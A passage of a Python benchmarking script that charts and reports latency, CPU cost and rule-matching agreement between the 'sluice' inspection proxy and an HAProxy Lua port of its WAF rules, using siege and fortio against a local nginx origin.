    colors = ["#999999", "#2b7bba", "#3a9e4f", "#e07b39"]
    keys = sorted(totals)
    for k, key in enumerate(keys):
        h = totals[key]
        n = h["count"]
        if not n:
            continue
        prev, xs, ys = 0, [], []
        for le, cum in h["buckets"]:
            if le == float("inf"):
                continue
            xs.append(le)
            ys.append((cum - prev) / n * 100)
            prev = cum
        # trim empty tails
        nz = [i for i, y in enumerate(ys) if y > 0]
        if not nz:
            continue
        a, b = max(nz[0] - 1, 0), min(nz[-1] + 2, len(xs))
        st = hist_stats(h)
        ax.step(xs[a:b], ys[a:b], where="post", color=colors[k % len(colors)], lw=1.6,
                label=f"{key}: {n:,.0f} calls, mean {st['mean']:.1f} µs, p50 ≤{st['p50']} p99 ≤{st['p99']} µs")
    ax.set_xscale("log")
    ax.set_xlabel("inspect() wall time, µs (bucket upper edge; log scale)")
    ax.set_ylabel("% of calls in the bucket")
    ax.set_title("sluice's own sluice_inspect_seconds histogram (scraped from /metrics before and after every run)",
                 fontsize=10)
    ax.grid(alpha=0.3, which="both")
    ax.legend(fontsize=8)
    fig.tight_layout()
    fig.savefig(path, dpi=110)
    plt.close(fig)


# ---------------------------------------------------------------- report

def pct_delta(a, b):
    return (a - b) / b * 100 if a is not None and b else None


def write_report(outdir, runs, port_rows, facts, setup, uas, rc_path, notes, started_at, elapsed, charts):
    ssum = siege_summary(runs)
    fsum = fortio_summary(runs)
    totals = hist_totals(runs)
    L = ["# Inspection cost — WAF latency (siege) and inspection percentiles (fortio), sluice vs HAProxy Lua", ""]
    L.append(f"Run {started_at} UTC, {elapsed:.0f} s in all. {'QUICK mode. ' if QUICK else ''}{ROUNDS} rounds, "
             "the target order rotating each round; medians with min–max. One sluice process (workers: 1; the hook "
             "switched on and off live with `POST /inspect/on|off` on its admin listener) and one HAProxy process "
             "(nbthread 1; three frontends), both up for the whole run, in front of the static nginx origin. "
             f"Pinning: {PIN_TEXT}. Figures from a shared machine: trust ratios from the same run more than "
             "absolute numbers.")
    L.append("")
    L.append("Rules: sluice runs `lua/waf.lua` (343 rules, one Hyperscan database). HAProxy 2.6 runs the same "
             "file unchanged through `bench/haproxy/sluice_hook.lua`, which gives it `sluice.multi` as one PCRE2 "
             "regex per pattern (HAProxy's `Regex` class, JIT) and `sluice.transform` in Lua. The port check "
             "below shows both answering the same requests the same way.")
    L.append("")
    for c in charts:
        L += [f"![{c[:-4]}]({c})", ""]

    # siege
    if ssum:
        L += ["## WAF latency (siege)", "",
              f"`siege -c {USERS} -t {DURATION}S` with a random {UA_BYTES}-byte User-Agent (one per round, the same "
              f"for every target of the round), delay {DELAY:g} s, `connection = close` (siege's defaults; see "
              "the rc file below). Response time is siege's total transaction time over transactions "
              "(concurrency ÷ rate, the figure siege prints rounded to 10 ms). Proxy CPU: its utime+stime "
              "(/proc) per transaction.", "",
              "| target | runs | transactions | availability % | response time ms | min–max | transaction rate /s | "
              "throughput MB/s | concurrency | longest transaction s | failed | proxy CPU µs/trans |",
              "|---|---:|---:|---:|---:|---:|---:|---:|---:|---:|---:|---:|"]
        for t, s in ssum.items():
            L.append(f"| **{t}** | {s['n']} | {fmt(s['transactions'][0])} | {fmt(s['availability'][0], 2)} | "
                     f"{fmt(s['rt_ms'][0], 2)} | {fmt(s['rt_ms'][1], 2)}–{fmt(s['rt_ms'][2], 2)} | "
                     f"{fmt(s['transaction_rate'][0], 1)} | {fmt(s['throughput'][0], 2)} | "
                     f"{fmt(s['concurrency'][0], 1)} | {fmt(s['longest_transaction'][0], 2)} | "
                     f"{fmt(s['failed_transactions'][0])} | {fmt(s['cpu_us'][0], 1)} |")
        L += ["", "Against each proxy's own `off` (the reference: +9.84 ms, +54.8 % response time; "
              "−1.08 % transaction rate; concurrency 108.5 vs 70.9):", "",
              "| target | response time added, ms | response time % | transaction rate % | concurrency (vs off) | "
              "proxy CPU µs/trans added |", "|---|---:|---:|---:|---:|---:|"]
        for t, s in ssum.items():
            proxy, v = t.split("-", 1)
            o = ssum.get(f"{proxy}-off")
            if v == "off" or not o:
                continue
            L.append(f"| {t} | {s['rt_ms'][0] - o['rt_ms'][0]:+.2f} | {fmt(pct_delta(s['rt_ms'][0], o['rt_ms'][0]), 1)} | "
                     f"{fmt(pct_delta(s['transaction_rate'][0], o['transaction_rate'][0]), 2)} | "
                     f"{fmt(s['concurrency'][0], 1)} vs {fmt(o['concurrency'][0], 1)} | "
                     f"{fmt((s['cpu_us'][0] or 0) - (o['cpu_us'][0] or 0), 1)} |")
        L.append("")
        ratio_rows = []
        for v in ("off", "allow_all", "waf"):
            a, b = ssum.get(f"sluice-{v}"), ssum.get(f"haproxy-{v}")
            if a and b:
                ratio_rows.append(f"| {v} | {a['rt_ms'][0] / b['rt_ms'][0]:.3f} | "
                                  f"{a['transaction_rate'][0] / b['transaction_rate'][0]:.3f} | "
                                  + (f"{a['cpu_us'][0] / b['cpu_us'][0]:.3f}" if a['cpu_us'][0] and b['cpu_us'][0]
                                     else "—") + " |")
        if ratio_rows:
            L += ["sluice ÷ HAProxy (same variant; below 1 is better for response time and CPU, above 1 for rate):",
                  "", "| variant | response time | transaction rate | proxy CPU/trans |", "|---|---:|---:|---:|"]
            L += ratio_rows + [""]

    # fortio
    if fsum:
        L += ["## Inspection latency percentiles (fortio)", "",
              f"`fortio load -c C -qps Q -t {FORTIO_DURATION:g}s -uniform` (keep-alive, the same random User-Agent), "
              "p50/p90/p99 in ms from fortio's JSON, medians over the rounds; Δ = with − without inspection "
              "(the reference's deltas: a few ms, up to 20–120 ms at high load). `actual QPS` below the "
              "requested rate means the target could not keep up, except where the rate per connection is "
              "low (e.g. 250 QPS over 250 connections: one request per connection per second, so a "
              f"{FORTIO_DURATION:g} s run holds fewer requests than QPS × duration, with or without inspection).", ""]
        for c in CONNS:
            keys = [(p, q) for p in ("sluice", "haproxy") for q in QPS
                    if (f"{p}-off", c, q) in fsum or (f"{p}-waf", c, q) in fsum]
            if not keys:
                continue
            L += [f"### {c} connections", "",
                  "| proxy | QPS | off p50 | off p90 | off p99 | waf p50 | waf p90 | waf p99 | Δp50 | Δp90 | Δp99 | "
                  "actual QPS (waf) | errors |", "|---|---:|---:|---:|---:|---:|---:|---:|---:|---:|---:|---:|---:|"]
            for p, q in keys:
                o, w = fsum.get((f"{p}-off", c, q)), fsum.get((f"{p}-waf", c, q))
                cells = []
                for s in (o, w):
                    cells += [fmt(s[k][0], 3) if s else "—" for k in ("p50", "p90", "p99")]
                cells += [f"{w[k][0] - o[k][0]:+.3f}" if o and w else "—" for k in ("p50", "p90", "p99")]
                errs = sum((s["errors"][0] or 0) for s in (o, w) if s)
                L.append(f"| {p} | {q} | " + " | ".join(cells) + f" | {fmt(w['actual_qps'][0]) if w else '—'} | "
                         f"{fmt(errs)} |")
            L.append("")

    # sluice's own histogram
    if totals:
        L += ["## sluice's own inspection histogram", "",
              "`sluice_inspect_seconds` of the listener under load, scraped from `/metrics` before and after "
              "every sluice run and summed over the runs of each kind: the wall time of each `inspect()` call "
              "inside sluice (whole µs; percentiles are bucket upper edges). HAProxy has no equivalent; its "
              "share shows only in the load tool's latency and in its CPU per request.", "",
              "| script (load) | calls | mean µs | p50 ≤ µs | p90 ≤ | p99 ≤ | p99.9 ≤ |", "|---|---:|---:|---:|---:|---:|---:|"]
        for key in sorted(totals):
            st = hist_stats(totals[key])
            if st:
                L.append(f"| {key} | {fmt(st['count'])} | {fmt(st['mean'], 2)} | {fmt(st['p50'])} | "
                         f"{fmt(st['p90'])} | {fmt(st['p99'])} | {fmt(st['p999'])} |")
        L.append("")

    # port check
    if port_rows:
        same = sum(1 for r in port_rows if r["same"])
        L += ["## The port check: the same rules give the same answers", "",
              f"{same} of {len(port_rows)} requests got the same status and the same rule tags from sluice-waf "
              "and haproxy-waf (sluice's tags: the per-request change of `sluice_inspect_tag_total`; HAProxy's: "
              "the `X-Sluice-Tags` response header the port sets).", "",
              "| request | kind | sluice | HAProxy | tags | same |", "|---|---|---:|---:|---|:---:|"]
        for r in port_rows:
            tags = ", ".join(r["sluice_tags"]) if r["sluice_tags"] == r["haproxy_tags"] else \
                f"sluice: {', '.join(r['sluice_tags'])}; HAProxy: {', '.join(r['haproxy_tags'])}"
            hdr = "".join(f" + {k}: {v[:40]}" for k, v in r["headers"].items())
            L.append(f"| {r['label']}: `{r['method']} {r['target'][:70]}{hdr}` | {r['kind']} | {r['sluice']} | "
                     f"{r['haproxy']} | {tags.replace('|', '/')} | {'✓' if r['same'] else '✗'} |")
        L.append("")

    if notes:
        L += ["## Problems seen", ""] + [f"- {n}" for n in notes] + [""]

    L += ["## Every run", "", "| part | round | target | case | response time ms / p50 ms | rate /s / p99 ms | "
          "proxy CPU µs/req | proxy CPU % | others' CPU % | raw |", "|---|---:|---|---|---:|---:|---:|---:|---:|---|"]
    for r in runs:
        if r["part"] == "siege":
            a, b, case = fmt(r.get("rt_ms"), 2), fmt(r.get("transaction_rate"), 1), f"{USERS} users"
        else:
            a, b, case = fmt(r.get("p50"), 3), fmt(r.get("p99"), 3), f"c{r['c']} q{r['qps']}"
        L.append(f"| {r['part']} | {r['round']} | {r['target']} | {case} | {a} | {b} | {fmt(r.get('cpu_us'), 1)} | "
                 f"{fmt(r.get('cpu_pct'))} | {fmt(r.get('other_pct'))}{' ⚠' if r.get('noisy') else ''} | "
                 f"[{os.path.basename(r['raw'])}](inspection/{r['raw']}) |")
    L += ["", f"⚠: others' CPU (processes not started here, and softirq time no process is charged for) "
          f"at or above {NOISE_PCT}% of one CPU during the run; such runs are kept.", ""]

    L += ["## Commands (exact)", "", "```sh", f"# backend (started once)\n{setup.backend_cmd}",
          f"# sluice (started once; the hook switched with the admin listener)\n{' '.join(setup.sluice_cmd)}",
          f"curl -X POST http://127.0.0.1:{setup.sp['admin']}/inspect/off   # before an off run",
          f"curl -X POST http://127.0.0.1:{setup.sp['admin']}/inspect/on    # before an allow_all/waf run",
          f"# HAProxy (started once)\n{' '.join(setup.haproxy_cmd)}",
          "# ports: sluice allow_all %d, waf (and off) %d; HAProxy off %d, allow_all %d, waf %d"
          % (setup.sp["allow"], setup.sp["waf"], setup.hp["off"], setup.hp["allow"], setup.hp["waf"]),
          "# siege, one run per target (<UA>: the round's random User-Agent)",
          shlex.join(siege_cmd(rc_path, "<UA>", "PORT")),
          "# fortio, one run per target, connection count C and rate Q",
          shlex.join(fortio_cmd("PORT", "C", "Q", "<UA>", "out.json")),
          "```", ""]
    if uas:
        L += ["User-Agents (round 1 shown; every round's is in inspection/user-agents.txt):", "",
              f"```\n{uas[0]}\n```", ""]
    L += [f"`{os.path.basename(rc_path)}` (siege -R):", "", "```", open(rc_path).read().rstrip(), "```", ""]
    report_configs_and_machine(L, {"sluice": setup.sluice_conf, "HAProxy": setup.haproxy_conf}, facts)
    L.append("The HAProxy port: `bench/haproxy/sluice_hook.lua` (see docs/bench/inspection.md for how it differs).")
    L.append("")
    L.append("Reproduce: `make bench-inspection` (or `QUICK=1 make bench-inspection`); see docs/bench/inspection.md.")
    L.append("")
    write(os.path.join(outdir, "inspection.md"), "\n".join(L))
    return ssum, fsum


# ---------------------------------------------------------------- main

def main():
    started, outdir, d = results_dirs("inspection")
    t_start = time.monotonic()
    for tool, path in (("siege", "siege"), ("fortio", FORTIO), ("haproxy", "haproxy"), ("nginx", "nginx")):
        need = {"siege": "siege" in PARTS, "fortio": "fortio" in PARTS}.get(tool, True)
        if need and not (os.path.isabs(path) and os.access(path, os.X_OK)) and not cmd_out(["which", path]).startswith("/"):
            sys.exit(f"{PROG}: {tool} not found ({path}); run bench/inspection.sh")
    if not os.access(os.path.join(BUILD, "sluice"), os.X_OK):
        sys.exit(f"{PROG}: {BUILD}/sluice missing; run bench/inspection.sh (or make BUILD=...)")
    n_siege = ROUNDS * len(TARGETS) if "siege" in PARTS else 0
    n_fortio = ROUNDS * len(CONNS) * len(QPS) * len(FORTIO_TARGETS) if "fortio" in PARTS else 0
    log(f"results in {outdir}; {n_siege} siege runs of {DURATION} s, {n_fortio} fortio runs of "
        f"{FORTIO_DURATION:g} s; {PIN_TEXT}")
    facts = machine_facts([
        ("sluice", f"{cmd_out([os.path.join(BUILD, 'sluice'), '-V']).splitlines()[0]} ({git_describe()})"),
        ("HAProxy", cmd_out(["haproxy", "-v"]).splitlines()[0]),
        ("HAProxy Lua / PCRE2", "; ".join(l.strip() for l in cmd_out(["haproxy", "-vv"]).splitlines()
                                          if l.startswith(("Built with Lua", "Built with PCRE2", "PCRE2 library")))),
        ("siege", next((l for l in cmd_out(["siege", "-V"]).splitlines() if l.startswith("SIEGE")), "?")),
        ("fortio", cmd_out([FORTIO, "version"]) if "fortio" in PARTS else "not used"),
        ("nginx (origin)", cmd_out(["nginx", "-v"]).replace("nginx version: ", "")),
    ])
    rc_path = write(os.path.join(d, "siegerc"), siegerc())
    setup = Setup(d)
    setup.start()
    notes, runs = list(setup.start_notes), []

    setup.set_switch(True)
    uas = [make_ua(rnd, setup) for rnd in range(ROUNDS)]
    write(os.path.join(d, "user-agents.txt"), "\n".join(uas) + "\n")
    port_rows, port_problems = check_port(setup, uas)
    notes += port_problems
    log(f"port check: {sum(r['same'] for r in port_rows)}/{len(port_rows)} requests answered alike")

    if "siege" in PARTS:
        for rnd in range(ROUNDS):
            k = rnd % len(TARGETS)
            for t in TARGETS[k:] + TARGETS[:k]:
                r = run_siege(setup, t, rnd, uas[rnd], rc_path, d)
                runs.append(r)
                notes += [f"siege round {rnd + 1}, {t}: {p}" for p in r["problems"]]
                log(f"siege r{rnd + 1} {t:18} {fmt(r.get('rt_ms'), 2):>8} ms  {fmt(r.get('transaction_rate'), 1):>9} "
                    f"trans/s  conc {fmt(r.get('concurrency'), 1):>6}  cpu {fmt(r.get('cpu_us'), 1)} us/trans"
                    + (f"  ! {'; '.join(r['problems'])}" if r["problems"] else ""))
    if "fortio" in PARTS:
        for rnd in range(ROUNDS):
            k = rnd % len(FORTIO_TARGETS)
            order = FORTIO_TARGETS[k:] + FORTIO_TARGETS[:k]
            for c in CONNS:
                for q in QPS:
                    for t in order:
                        r = run_fortio(setup, t, rnd, c, q, uas[rnd], d)
                        runs.append(r)
                        notes += [f"fortio round {rnd + 1}, c{c} q{q}, {t}: {p}" for p in r["problems"]]
                    log(f"fortio r{rnd + 1} c{c:<4} q{q:<6} " + "  ".join(
                        f"{x['target']} p50 {fmt(x.get('p50'), 3)} p99 {fmt(x.get('p99'), 3)}"
                        for x in runs[-len(order):]))

    for p in (setup.sluice, setup.haproxy):
        if p.poll() is not None:
            notes.append(f"{p.args[len(PROXY_PIN)]} exited during the run (status {p.returncode})")
    err_tail = read_tail(os.path.join(d, "sluice.error.log"), 0)
    script_errors = [l for l in err_tail.splitlines() if "inspect" in l and "error" in l.lower()]
    if script_errors:
        notes.append(f"sluice error log: {len(script_errors)} script error lines, e.g. {script_errors[0][:200]}")
    hap_warn = [l for l in read_tail(os.path.join(d, "haproxy.out"), 0).splitlines() if "sluice_hook" in l]
    if hap_warn:
        notes.append(f"HAProxy log: {len(hap_warn)} script error lines, e.g. {hap_warn[0][:200]}")
    stop(setup.haproxy)
    stop(setup.sluice)
    stop(setup.backend)

    elapsed = time.monotonic() - t_start
    charts = []
    ssum, fsum = siege_summary(runs), fortio_summary(runs)
    try:
        if ssum:
            chart_siege(os.path.join(outdir, "inspection.png"), ssum)
            charts.append("inspection.png")
        for c in CONNS:
            if any(k[1] == c for k in fsum):
                chart_fortio(os.path.join(outdir, f"inspection-fortio-c{c}.png"), fsum, c)
                charts.append(f"inspection-fortio-c{c}.png")
        totals = hist_totals(runs)
        if totals:
            chart_hist(os.path.join(outdir, "inspection-histogram.png"), totals)
            charts.append("inspection-histogram.png")
    except Exception as e:  # noqa: BLE001
        notes.append(f"charts not drawn: {e!r}")
    write_report(outdir, runs, port_rows, facts, setup, uas, rc_path, notes,
                 started.strftime("%Y-%m-%d %H:%M:%S"), elapsed, charts)
    latest = os.path.join(RESULTS, "latest")
    if os.path.isdir(latest) and not os.path.islink(latest):   # charts of an earlier run with other CONNS
        for f in os.listdir(latest):
            if f.startswith("inspection") and f.endswith(".png") and f not in charts:
                os.unlink(os.path.join(latest, f))
    refresh_latest(RESULTS, outdir, "inspection", files=["inspection.md"] + charts)
    with open(os.path.join(outdir, "inspection.md")) as f:
        text = f.read()
    print("\n" + text.split("## Every run")[0].split("## The port check")[0].rstrip() + "\n")
    log(f"report: {os.path.join(outdir, 'inspection.md')}")
    log(f"elapsed: {time.monotonic() - t_start:.0f} s")

    missing = [t for t in (TARGETS if "siege" in PARTS else []) if t not in ssum]
    missing += [f"{t} c{c} q{q}" for t in (FORTIO_TARGETS if "fortio" in PARTS else []) for c in CONNS for q in QPS
                if (t, c, q) not in fsum]
    if missing:
        log(f"no figures for: {', '.join(missing)}")
        return 1
    if any(not r["same"] for r in port_rows):
        log("the HAProxy port disagreed with sluice on some requests (see the report)")
        return 1
    return 0


if __name__ == "__main__":
    run_main(main, PROG)
